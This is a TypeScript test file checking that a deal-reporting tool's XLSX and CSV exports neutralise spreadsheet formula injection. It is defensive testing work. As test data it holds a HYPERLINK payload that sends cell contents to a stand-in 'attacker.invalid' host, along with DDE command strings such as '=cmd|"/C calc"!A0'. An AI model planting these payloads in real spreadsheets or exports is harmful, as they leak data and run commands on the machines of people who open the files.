import fc from 'fast-check';
import * as XLSX from 'xlsx';
import type { CellObject } from 'xlsx';
import { describe, expect, it } from 'vitest';
import { Deal } from '../../../core/deal/schema';
import { buildTrancheReport, isFormulaLike, neutraliseText, tableToCsv } from '../../../core/io/report';
import { DEAL_INPUT, fixtureRun } from './fixture';
import { readReport, sheet } from './readBack';

const HOSTILE = '=HYPERLINK("http://attacker.invalid/?"&A1,"Click")';

describe('formula injection', () => {
  it('prefixes text that a spreadsheet would run with an apostrophe', () => {
    expect(neutraliseText('=1+1')).toBe("'=1+1");
    expect(neutraliseText('+1')).toBe("'+1");
    expect(neutraliseText('-2+3')).toBe("'-2+3");
    expect(neutraliseText('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(neutraliseText('\t=1')).toBe("'\t=1");
    expect(neutraliseText('\r=1')).toBe("'\r=1");
    expect(neutraliseText('  =cmd')).toBe("'  =cmd");
    expect(neutraliseText('\uff1d1+1')).toBe("'\uff1d1+1");
    expect(neutraliseText('Class A-1')).toBe('Class A-1');
    expect(neutraliseText('')).toBe('');
  });

  it('leaves no text formula-like, and changes text only by the prefix', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 30 }), (s) => {
        const safe = neutraliseText(s);
        const dangerous = /^ *[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/.test(s);
        return !isFormulaLike(safe) && safe === (dangerous ? `'${s}` : s);
      }),
    );
  });

  it('writes user-named deals, tranches and scenarios as inert text in the workbook', async () => {
    const input = structuredClone(DEAL_INPUT);
    input.name = HOSTILE;
    input.structure.tranches[0]!.name = '+cmd|" /C calc"!A0';
    input.scenarios[0]!.name = '@SUM(1+1)*cmd|"/C calc"!A0';
    const deal = Deal.parse(input);
    const result = fixtureRun(deal);
    const bytes = await buildTrancheReport({
      deal,
      result,
      extras: {
        tables: [
          {
            sheetName: '-Funding',
            title: '=title',
            columns: [{ key: 'lender', header: '=header', format: 'text' }],
            rows: [{ lender: '-2+3' }, { lender: '\t=1' }],
          },
        ],
      },
    });
    const wb = readReport(bytes);
    let strings = 0;
    let links = 0;
    for (const name of wb.SheetNames) {
      const ws = sheet(wb, name);
      for (const key of Object.keys(ws)) {
        if (key.startsWith('!')) continue;
        const c = ws[key] as CellObject;
        // Only the report's own arithmetic on cell references: SUM ranges, + and −, rounding to the cent.
        // The Contents' links: the sheet name quoted inside string literals, its quotes doubled, so no name can
        // end the literal and add a formula of its own.
        if (c.f !== undefined && c.f.startsWith('HYPERLINK(')) {
          expect(c.f, `${name}!${key}`).toMatch(/^HYPERLINK\("#'(?:[^'"]|''|"")*'!A1","(?:[^"]|"")*"\)$/);
          links++;
        } else if (c.f !== undefined) {
          expect(c.f, `${name}!${key}`).toMatch(/^(?:SUM\(|ROUND\(|,2\)|[A-Z]{1,3}\d+|[:+\-()])+$/);
        }
        if (typeof c.v === 'string') {
          strings++;
          expect(isFormulaLike(c.v), `${name}!${key}: ${c.v}`).toBe(false);
        }
      }
    }
    expect(strings).toBeGreaterThan(100);
    expect(links).toBe(wb.SheetNames.length - 1);
    const summary = sheet(wb, 'Summary');
    expect(summary['B4']).toMatchObject({ t: 's', v: `'${HOSTILE}` });
    expect(summary['B4']?.f).toBeUndefined();
    expect(wb.SheetNames).toContain('-Funding');
    const funding = sheet(wb, '-Funding');
    expect(funding['A1']?.v).toBe("'=title");
    expect(funding['A3']?.v).toBe("'=header");
    expect(funding['A4']?.v).toBe("'-2+3");
    expect(funding['A5']?.v).toBe("'\t=1");
    expect(XLSX.utils.sheet_to_csv(funding).split('\n')[4]).toBe("'\t=1");
  });

  it('neutralises CSV cells too, where no cell type can protect the text', () => {
    const csv = tableToCsv({
      sheetName: 'x',
      title: 'x',
      columns: [
        { key: 'id', header: '@id', format: 'text' },
        { key: 'amount', header: 'Amount', format: 'money' },
      ],
      rows: [
        { id: '=cmd|"/C calc"!A0', amount: -5 },
        { id: '-1', amount: 'n/a' },
      ],
    });
    expect(csv).toBe(`'@id,Amount\r\n"'=cmd|""/C calc""!A0",-5.00\r\n'-1,n/a\r\n`);
  });
});
